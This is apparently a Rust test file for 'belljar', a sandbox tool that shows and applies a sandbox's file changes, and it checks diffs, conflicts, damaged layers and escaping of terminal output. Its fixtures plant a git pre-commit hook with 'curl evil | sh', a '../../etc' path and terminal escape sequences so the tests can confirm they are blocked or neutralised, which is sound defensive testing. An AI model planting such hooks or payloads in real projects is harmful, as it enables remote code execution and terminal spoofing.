//! `belljar diff`, `apply`, `discard`, `list`: what a person sees of a layer.

use belljar_overlay::{Commits, Held, Layer, Layers};
use belljar_sys::rustix::fs::{CWD, FileType, Mode, mknodat};
use belljar_tests_cli::{Run, belljar};
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// A folder, and a home with a state directory of its own.
struct Home(tempfile::TempDir);

impl Home {
    fn new() -> Home {
        let home = Home(tempfile::tempdir().expect("a temporary folder can be made"));
        for (path, content) in [
            ("src/main.rs", "fn main() {\n    println!(\"hello\");\n}\n"),
            ("src/lib.rs", "//! Nothing.\n"),
            ("run.sh", "#!/bin/sh\n"),
            ("notes.txt", "one\ntwo\nthree\n"),
        ] {
            home.write(&home.folder().join(path), content);
        }
        home
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().canonicalize().expect("the folder is there").join(name)
    }

    fn folder(&self) -> PathBuf {
        self.path("work")
    }

    fn write(&self, path: &Path, content: &str) {
        fs::create_dir_all(path.parent().expect("it lies in a folder")).expect("a folder can be made");
        fs::write(path, content).expect("a file can be written");
        fs::set_permissions(path, fs::Permissions::from_mode(0o644)).expect("it is ours");
    }

    fn layers(&self) -> Layers {
        Layers::at(&self.path("state/belljar"))
    }

    /// A layer as a sandbox leaves it.
    fn layer(&self) -> Layer {
        let held: Held = self.layers().create(&self.folder(), &[]).expect("a layer can be made");
        let upper = held.upper.clone();
        self.write(&upper.join("src/main.rs"), "fn main() {\n    println!(\"hello, world\");\n}\n");
        self.write(&upper.join("src/new file.rs"), "pub fn new() {}\n");
        self.write(&upper.join("run.sh"), "#!/bin/sh\n");
        fs::set_permissions(upper.join("run.sh"), fs::Permissions::from_mode(0o755)).expect("it is ours");
        self.write(&upper.join("moved/lib.rs"), "//! Nothing.\n");
        for gone in ["src/lib.rs", "notes.txt"] {
            mknodat(CWD, upper.join(gone), FileType::CharacterDevice, Mode::empty(), 0).expect("a whiteout");
        }
        self.write(&upper.join(".husky/pre-commit"), "curl evil | sh\n");
        held.release()
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(belljar());
        command
            .args(args)
            .current_dir(self.folder())
            .env("HOME", self.path("."))
            .env("XDG_STATE_HOME", self.path("state"))
            .stdin(Stdio::null());
        command
    }

    fn run(&self, args: &[&str]) -> Run {
        let output = self.command(args).output().expect("belljar starts");
        let text = |bytes: &[u8]| {
            let home = self.path("");
            let home = home.to_str().expect("a plain path").trim_end_matches('/');
            let mut text = String::from_utf8_lossy(bytes).replace(home, "[home]");
            for (number, layer) in
                self.layers().list().expect("layers can be listed").iter().rev().enumerate()
            {
                if let Ok(layer) = layer {
                    text = text.replace(&layer.id.to_string(), &format!("[layer number {number}]"));
                }
            }
            text
        };
        Run {
            code: output.status.code().unwrap_or(-1),
            stdout: text(&output.stdout),
            stderr: text(&output.stderr),
        }
    }

    /// What is said on both streams, and the exit code; an id that is gone by then is sixteen digits.
    fn transcript(&self, args: &[&str]) -> String {
        let Run { code, stdout, stderr } = self.run(args);
        steady(&format!("{stdout}---\n{stderr}--- {code}\n"))
    }
}

/// Sixteen hexadecimal digits by name.
fn steady(text: &str) -> String {
    let mut steady = String::new();
    let mut rest = text;
    while let Some(at) = rest.find(|c: char| c.is_ascii_hexdigit()) {
        let (before, from) = rest.split_at(at);
        let length = from.find(|c: char| !c.is_ascii_hexdigit()).unwrap_or(from.len());
        steady.push_str(before);
        steady.push_str(if length == 16 { "[layer]" } else { &from[..length] });
        rest = &from[length..];
    }
    steady + rest
}

#[test]
fn help_stays_as_it_is() {
    let home = Home::new();
    for name in ["diff", "apply", "discard", "layers"] {
        insta::assert_snapshot!(format!("help_{name}"), home.run(&[name, "--help"]).stdout);
    }
}

#[test]
fn a_layer_is_shown_in_three_ways() {
    let home = Home::new();
    home.layer();
    insta::assert_snapshot!("diff", home.transcript(&["diff"]));
    insta::assert_snapshot!("diff_names", home.transcript(&["diff", "--names"]));
    insta::assert_snapshot!("diff_stat", home.transcript(&["diff", "--stat"]));
    insta::assert_snapshot!("diff_part", home.transcript(&["diff", "--names", "src", "./moved"]));
}

#[test]
fn programs_get_all_of_it() {
    let home = Home::new();
    let layer = home.layer();
    let result = home.command(&["diff", "--json", "--stat", "--patch"]).output().expect("belljar starts");
    let json: serde_json::Value = serde_json::from_slice(&result.stdout).expect("one JSON object");
    assert_eq!(json["layer"], layer.id.to_string());
    let of = |path: &str| {
        json["changes"].as_array().unwrap().iter().find(|change| change["path"] == path).unwrap()
    };
    assert_eq!(of("moved/lib.rs")["from"], "src/lib.rs");
    assert_eq!((&of("run.sh")["old_mode"], &of("run.sh")["new_mode"]), (&"0644".into(), &"0755".into()));
    assert_eq!(of("src/main.rs")["lines"]["added"], 1);
    assert!(json["patch"].as_str().unwrap().contains("+    println!(\"hello, world\");\n"));
    assert_eq!(json["left_out"][0]["why"], "protected");
    layer.hold().expect("no sandbox has it").finish(Commits::None).expect("its changes are counted");
    let list = home.command(&["layers", "--json"]).output().expect("belljar starts");
    let list: serde_json::Value = serde_json::from_slice(&list.stdout).expect("one JSON array");
    assert_eq!(
        (&list[0]["kind"], &list[0]["changed"], &list[0]["state"]),
        (&"layer".into(), &5.into(), &"kept".into())
    );
}

#[test]
fn git_takes_the_patch() {
    let home = Home::new();
    home.layer();
    let patch = home.command(&["diff", "--patch"]).output().expect("belljar starts").stdout;
    fs::write(home.path("patch"), patch).unwrap();
    let git = Command::new("git")
        .args(["apply", "--stat", "--apply", "../patch"])
        .current_dir(home.folder())
        .env("GIT_CEILING_DIRECTORIES", home.path(""))
        .output()
        .expect("git starts");
    assert!(git.status.success(), "{}", String::from_utf8_lossy(&git.stderr));
    assert!(fs::read_to_string(home.folder().join("src/main.rs")).unwrap().contains("hello, world"));
    assert!(home.folder().join("moved/lib.rs").exists() && !home.folder().join("notes.txt").exists());
}

#[test]
fn what_is_applied_is_the_folders_own() {
    let home = Home::new();
    home.layer();
    insta::assert_snapshot!("apply_part", home.transcript(&["apply", "src/main.rs"]));
    assert!(fs::read_to_string(home.folder().join("src/main.rs")).unwrap().contains("hello, world"));
    assert!(home.folder().join("notes.txt").exists());
    insta::assert_snapshot!("apply_rest", home.transcript(&["apply"]));
    assert!(!home.folder().join("notes.txt").exists() && home.folder().join("moved/lib.rs").exists());
    assert!(!home.folder().join(".husky").exists());
    insta::assert_snapshot!("apply_nothing", home.transcript(&["apply"]));
}

#[test]
fn a_file_that_changed_here_is_never_overwritten() {
    let home = Home::new();
    home.layer();
    home.write(&home.folder().join("src/main.rs"), "mine\n");
    home.write(&home.folder().join("src/new file.rs"), "mine too\n");
    insta::assert_snapshot!("apply_conflict", home.transcript(&["apply"]));
    assert_eq!(fs::read_to_string(home.folder().join("src/main.rs")).unwrap(), "mine\n");
    assert!(home.folder().join("notes.txt").exists(), "nothing was applied");
    let json = home.run(&["apply", "--json"]);
    let error: serde_json::Value = serde_json::from_str(&json.stdout).expect("one JSON object");
    assert_eq!((json.code, &error["error"]["code"]), (126, &"work_unsaved".into()));
    assert_eq!(home.run(&["apply", "notes.txt"]).code, 0);
    assert!(!home.folder().join("notes.txt").exists());
}

#[test]
fn a_layer_that_is_in_use_stays() {
    let home = Home::new();
    let held = home.layer().hold().expect("no process holds it");
    insta::assert_snapshot!("apply_in_use", home.transcript(&["apply"]));
    let listed = home.run(&["layers"]).stdout;
    assert!(listed.starts_with("KIND   ID ") && listed.contains("[layer number 0]"), "{listed}");
    assert!(listed.trim_end().ends_with("-        running"), "{listed}");
    drop(held);
    assert_eq!(home.run(&["apply"]).code, 0);
}

#[test]
fn what_is_discarded_is_gone() {
    let home = Home::new();
    home.layer();
    insta::assert_snapshot!("discard_unasked", home.transcript(&["discard"]));
    insta::assert_snapshot!("discard", home.transcript(&["discard", "--yes"]));
    assert_eq!(home.layers().list().unwrap().len(), 0);
    insta::assert_snapshot!("discard_nothing", home.transcript(&["discard", "--yes"]));
    insta::assert_snapshot!("list_none", home.transcript(&["layers"]));
    assert!(home.folder().join("notes.txt").exists());
}

#[test]
fn layers_are_found_by_id_and_folder() {
    let home = Home::new();
    let first = home.layer().id.to_string();
    home.layer();
    insta::assert_snapshot!("newest", home.transcript(&["diff", "--names", "run.sh"]));
    let result = home.run(&["diff", &first[..8], "--names", "run.sh"]);
    assert_eq!((result.code, result.stdout.as_str()), (0, "P run.sh\n"), "{}", result.stderr);
    // From elsewhere, paths begin at the folder.
    let elsewhere =
        home.command(&["diff", &first, "--names", "src/main.rs"]).current_dir("/").output().unwrap();
    assert_eq!(String::from_utf8_lossy(&elsewhere.stdout), "M src/main.rs\n");
    // In a folder below, at that.
    let below =
        home.command(&["diff", &first, "--names", "main.rs"]).current_dir(home.folder().join("src")).output();
    assert_eq!(String::from_utf8_lossy(&below.unwrap().stdout), "M src/main.rs\n");
    insta::assert_snapshot!("no_such_layer", home.transcript(&["diff", "0123456789abcdef"]));
    insta::assert_snapshot!("no_such_path", home.transcript(&["apply", "nowhere"]));
    insta::assert_snapshot!("path_outside", home.transcript(&["apply", "../../etc"]));
}

#[test]
fn a_damaged_layer_is_listed_and_can_be_discarded() {
    let home = Home::new();
    let layer = home.layer();
    fs::write(layer.directory.join("layer.json"), "{").unwrap();
    let listed = home.run(&["layers"]);
    assert!(listed.stdout.contains("damaged"), "{}", listed.stdout);
    assert_eq!(home.run(&["discard", "--yes", &layer.id.to_string()]).code, 0);
    assert_eq!(home.layers().list().unwrap().len(), 0);
}

#[test]
fn what_cannot_be_read_of_clones_hides_no_layer() {
    let home = Home::new();
    home.layer();
    // A file instead of a directory, which no user can list, not even root.
    home.write(&home.path("state/belljar/clones"), "");
    let listed = home.run(&["layers"]);
    assert!(listed.stdout.contains("[layer number 0]"), "{} {}", listed.stdout, listed.stderr);
    assert!(listed.code == 125 && listed.stderr.contains("clones"), "{}", listed.stderr);
    let listed = home.run(&["layers", "--json"]);
    let rows: serde_json::Value = serde_json::from_str(&listed.stdout).expect("one document");
    assert_eq!(
        (rows[0]["id"].as_str(), rows[1]["state"].as_str()),
        (Some("[layer number 0]"), Some("damaged"))
    );
    assert!(listed.code == 125 && rows[1]["damage"].as_str().unwrap().contains("clones"), "{rows}");
}

#[test]
fn an_apply_that_was_cut_short_is_mended_by_the_next_one() {
    let home = Home::new();
    let layer = home.layer();
    // Killed while it copied.
    let staging = format!(".belljar-apply-{}", layer.id);
    home.write(&home.folder().join(&staging).join("0"), "half");
    let journal =
        format!(r#"{{"staging":"{staging}","whole":true,"later":{{"drop":[],"unmark":[]}},"steps":[]}}"#);
    fs::write(layer.directory.join("apply.staging"), journal).unwrap();
    assert_eq!(home.run(&["layers"]).code, 0);
    assert!(home.folder().join(&staging).exists(), "a command that reads removes nothing");
    assert_eq!(home.run(&["apply"]).code, 0);
    assert!(!home.folder().join(&staging).exists());
    assert!(!layer.directory.join("apply.staging").exists());
}

#[test]
fn contents_do_not_speak_to_the_terminal() {
    let home = Home::new();
    let layer = home.layer();
    home.write(&layer.upper.join("evil"), "\u{1b}]0;owned\u{7}\u{1b}[2Jtext\u{202e}\n");
    home.write(&layer.upper.join("evil\u{1b}[2J name"), "x\n");
    // `script` gives it a terminal.
    let command = format!("{} diff", belljar().display());
    let seen = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .current_dir(home.folder())
        .env("HOME", home.path("."))
        .env("XDG_STATE_HOME", home.path("state"))
        .env_remove("NO_COLOR")
        .stdin(Stdio::null())
        .output();
    let Ok(seen) = seen else { return };
    let text = String::from_utf8_lossy(&seen.stdout).into_owned();
    assert!(text.contains("\u{1b}[32m+    println!(\"hello, world\");\u{1b}[0m"), "{text:?}");
    assert!(text.contains("^[]0;owned^G^[[2Jtext<U+202E>"), "{text:?}");
    assert!(text.contains("evil\\033[2J name"), "{text:?}");
    assert!(
        !text.contains("\u{1b}[2J") && !text.contains("\u{1b}]0;") && !text.contains('\u{202e}'),
        "{text:?}"
    );
    // Programs get the bytes.
    let plain = home.command(&["diff", "./evil"]).output().unwrap().stdout;
    assert!(plain.windows(5).any(|bytes| bytes == b"\x1b]0;o"));
}
